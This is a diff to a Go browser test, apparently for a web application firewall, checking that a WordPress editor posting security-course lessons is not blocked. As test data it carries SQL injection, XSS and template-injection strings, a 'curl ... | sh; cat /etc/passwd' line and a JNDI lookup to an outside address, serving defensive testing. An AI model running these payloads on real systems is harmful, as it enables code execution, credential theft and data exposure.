@@ -5,6 +5,8 @@ package main
 import (
 	"fmt"
 	"testing"
+
+	"github.com/tocsin-project/tocsin/internal/browsertest"
 )
 
 // A lesson shows what attackers send, as teachers of a course write it down: in a code block, in
@@ -23,18 +25,18 @@ const lesson = "<!-- wp:heading --><h2>SQL injection &amp; friends</h2><!-- /wp:
 // in the editor, in files, in settings, in the theme and in the search.
 func (p person) teaches() {
 	p.goes("/wp-admin/post-new.php")
-	p.until("window.wp?.data?.select('core/editor')?.getCurrentPostId() > 0")
+	p.Until("window.wp?.data?.select('core/editor')?.getCurrentPostId() > 0")
 	for _, title := range []string{`Lesson 1: ' OR '1'='1' --`, `<script>alert(1)</script>`, `{{7*7}} and $(id)`} {
 		look[bool](p.visitor, fmt.Sprintf("(wp.data.dispatch('core/editor').editPost({title: %q, content: %q, excerpt: 'How UNION SELECT 1,2,3 works, and what to do.', status: 'publish'}), wp.data.dispatch('core/editor').savePost(), true)", title, lesson))
-		p.until("!wp.data.select('core/editor').isSavingPost() && !wp.data.select('core/editor').isEditedPostDirty()")
+		p.Until("!wp.data.select('core/editor').isSavingPost() && !wp.data.select('core/editor').isEditedPostDirty()")
 	}
 	look[bool](p.visitor, "(wp.data.dispatch('core/editor').editPost({title: 'unsaved'}), wp.data.dispatch('core/editor').autosave(), true)")
-	p.until("!wp.data.select('core/editor').isAutosavingPost()")
+	p.Until("!wp.data.select('core/editor').isAutosavingPost()")
 	const notes = "SELECT * FROM users WHERE name = 'x' OR '1'='1'; --\n1' UNION SELECT user_pass FROM wp_users#\n" +
 		"curl http://169.254.169.254/latest/meta-data/ | sh; cat /etc/passwd\n${jndi:ldap://198.51.100.7/a} {{7*7}}\n"
 	for _, file := range []string{"SELECT statements, O'Brien (1).txt", "notes (1' or '1'='1).txt"} {
 		look[bool](p.visitor, fmt.Sprintf("((f => (f.append('file', new Blob([%q], {type: 'text/plain'}), %q), wp.apiFetch({path: '/wp/v2/media', method: 'POST', body: f}).then(m => window.uploaded = m.id)))(new FormData), true)", notes, file))
-		p.until("window.uploaded > 0")
+		p.Until("window.uploaded > 0")
 		look[bool](p.visitor, "(window.uploaded = 0, true)")
 	}
 	look[bool](p.visitor, "(window.onbeforeunload = null, true)")
@@ -44,15 +46,15 @@ func (p person) teaches() {
 	p.see("#setting-error-settings_updated")
 	p.goes("/wp-admin/edit-tags.php?taxonomy=category")
 	p.fills([2]string{"tag-name", `XSS & <script>alert(1)</script>`}, [2]string{"tag-description", `<img src=x onerror=alert(1)>`})
-	p.until("location.search.includes('message=')")
+	p.Until("location.search.includes('message=')")
 	p.goes("/wp-admin/customize.php")
-	p.until("!!window.wp?.customize?.previewer")
+	p.Until("!!window.wp?.customize?.previewer")
 	look[bool](p.visitor, `(wp.customize('blogdescription').set("Learn SQL: 1' OR 1=1 --"), wp.customize.previewer.save().then(() => window.kept = 1), true)`)
-	p.until("window.kept == 1")
+	p.Until("window.kept == 1")
 	look[bool](p.visitor, "(window.onbeforeunload = null, true)")
 	p.goes("/wp-admin/edit.php")
 	p.fills([2]string{"post-search-input", `<script>alert(1)</script>`})
-	p.until("location.search.includes('script')")
+	p.Until("location.search.includes('script')")
 }
 
 // Where the WAF does not know that an editor has logged in, such as after a restart, the
@@ -60,7 +62,7 @@ func (p person) teaches() {
 // challenge, and then the same text is saved.
 func TestAnEditorSavesAfterAChallengeInABrowser(t *testing.T) {
 	t.Parallel()
-	chromium(t)
+	browsertest.Find(t)
 	w := newWordPress(t)
 	f := newFront(newPost(t, "waf builtin\ndetect off", w.directives()), "203.0.113.8")
 	writer := noisy(newVisitor(t, browserConfig{}), f.URL)
@@ -68,10 +70,10 @@ func TestAnEditorSavesAfterAChallengeInABrowser(t *testing.T) {
 	writer.fills([2]string{"user_login", wpUser}, [2]string{"user_pass", wpPassword})
 	writer.see("#dashboard-widgets")
 	writer.goes("/wp-admin/post-new.php")
-	writer.until("window.wp?.data?.select('core/editor')?.getCurrentPostId() > 0")
+	writer.Until("window.wp?.data?.select('core/editor')?.getCurrentPostId() > 0")
 	save := func(then string) {
 		look[bool](writer.visitor, fmt.Sprintf("(wp.data.dispatch('core/editor').editPost({title: `<script>alert(1)</script>`, content: %q, status: 'publish'}), wp.data.dispatch('core/editor').savePost(), true)", lesson))
-		writer.until(then)
+		writer.Until(then)
 	}
 	save("wp.data.select('core/notices').getNotices().some(n => n.content.includes('in a new tab'))")
 	second := noisy(writer.tab(), f.URL)
